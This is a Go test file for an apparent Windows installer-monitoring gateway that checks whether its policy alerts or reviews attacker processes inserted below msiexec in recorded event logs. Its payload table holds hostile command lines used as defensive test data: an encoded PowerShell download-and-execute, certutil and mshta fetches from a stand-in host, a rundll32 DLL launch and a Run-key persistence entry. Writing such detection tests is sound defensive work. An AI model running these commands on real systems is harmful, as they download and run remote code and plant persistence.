package gateway

import (
	"encoding/json"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"

	"msigate/gateway/event"
	"msigate/gateway/policy"
)

// payload is what an attacker adds to a package. Programs driven by their
// arguments are an alert wherever they start. A program of the attacker's own is
// one where the service or a custom-action server starts it, and at least a review
// further down. What the client itself starts, tool and source together explain
// (docs/decisions/0007), unless it is driven by its arguments.
type payload struct {
	image, commandLine string
	own                bool // of the attacker's own
}

var payloads = []payload{
	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoProfile -w hidden -EncodedCommand SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAxADkAMgAuADAALgAyAC4ANAA0ACkA`, false},
	{`C:\Windows\System32\cmd.exe`, `cmd.exe /c certutil -urlcache -split -f http://192.0.2.44/h C:\ProgramData\h.exe`, false},
	{`C:\Windows\System32\mshta.exe`, `mshta.exe http://192.0.2.44/h.hta`, false},
	{`C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Users\Public\h.dll,Start`, false},
	{`C:\Windows\System32\reg.exe`, `reg.exe add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v h /d C:\Users\Public\h.exe /f`, false},
	{`C:\ProgramData\h\h.exe`, `C:\ProgramData\h\h.exe`, true},
}

// Wherever in a wanted deployment's tree an attacker has something started, it is
// seen: neither the tool nor the source nor a signer of something else shelters it.
func TestNoDeploymentSheltersWhatAnAttackerStarts(t *testing.T) {
	t.Parallel()
	p := builtIn(t)
	tried := 0
	for _, o := range deployments {
		if o.worst == policy.Alert { // abused as it stands
			continue
		}
		var host []*Message
		for _, m := range storyMessages(t, o.story) {
			if m.Host == o.host+".corp.example" {
				host = append(host, m)
			}
		}
		for at, m := range host {
			parent, is := treeProcess(m.Data)
			if !is {
				continue
			}
			for _, added := range payloads {
				tried++
				got := standing(t, p, slices.Insert(slices.Clone(host), at+1, startedBelow(t, m, parent, added)), at+1)
				if least := added.least(parent); !got.AtLeast(least) {
					t.Errorf("%s, %s: %s below %s is %q, not at least %q", o.story, o.host, added.commandLine, parent["CommandLine"], got, least)
				}
			}
		}
	}
	if tried < 100 {
		t.Errorf("%d payloads were tried: the stories were not read", tried)
	}
}

// least is what the payload must come to below a process.
func (p payload) least(parent map[string]string) policy.Disposition {
	command := strings.ToLower(parent["CommandLine"])
	switch msiexec := strings.EqualFold(event.Base(parent["Image"]), "msiexec.exe"); {
	case !p.own:
		return policy.Alert
	case !msiexec:
		return policy.Review
	case strings.HasSuffix(command, " /v"), strings.Contains(command, " -embedding "):
		return policy.Alert
	default:
		return policy.Approved
	}
}

// standing is what is decided last of one of the messages.
func standing(t *testing.T, p *Policy, messages []*Message, at int) policy.Disposition {
	t.Helper()
	for i, m := range messages {
		numbered := *m
		numbered.Sequence = uint64(i) + 1
		messages[i] = &numbered
	}
	got := policy.Disposition("")
	for _, d := range StoryDecisions(toldBy(t, p, messages)) {
		if d.Line == at+1 {
			got = d.Disposition
		}
	}
	return got
}

// treeProcess gives the facts of a process that is msiexec, or that msiexec started.
func treeProcess(line []byte) (map[string]string, bool) {
	var record struct {
		Winlog struct {
			EventID string            `json:"event_id"`
			Data    map[string]string `json:"event_data"`
		} `json:"winlog"`
	}
	if json.Unmarshal(line, &record) != nil || record.Winlog.EventID != "1" {
		return nil, false
	}
	data := record.Winlog.Data
	image, parent := event.LowerASCII(event.Base(data["Image"])), event.LowerASCII(event.Base(data["ParentImage"]))
	return data, image == "msiexec.exe" || parent == "msiexec.exe"
}

// startedBelow is the start of a program by the process whose own start m tells.
func startedBelow(t *testing.T, m *Message, parent map[string]string, added payload) *Message {
	t.Helper()
	pid, err := strconv.Atoi(parent["ProcessId"])
	if err != nil {
		t.Fatal(err)
	}
	line := map[string]any{}
	if err := json.Unmarshal(m.Data, &line); err != nil {
		t.Fatal(err)
	}
	data := line["winlog"].(map[string]any)["event_data"].(map[string]any)
	for name, value := range map[string]string{
		"Image": added.image, "CommandLine": added.commandLine, "OriginalFileName": event.Base(added.image), "Description": "-", "Product": "-", "Company": "-", "FileVersion": "-",
		"ProcessGuid": "{0BADC0DE-0000-0000-0000-" + fmt.Sprintf("%012d", pid) + "}", "ProcessId": strconv.Itoa(pid + 20_000),
		"Hashes":            "SHA256=" + strings.Repeat("0BADC0DE", 8),
		"ParentProcessGuid": parent["ProcessGuid"], "ParentProcessId": parent["ProcessId"], "ParentImage": parent["Image"], "ParentCommandLine": parent["CommandLine"], "ParentUser": parent["User"],
	} {
		data[name] = value
	}
	told, err := json.Marshal(line)
	if err != nil {
		t.Fatal(err)
	}
	child := *m
	child.Data = told
	return &child
}
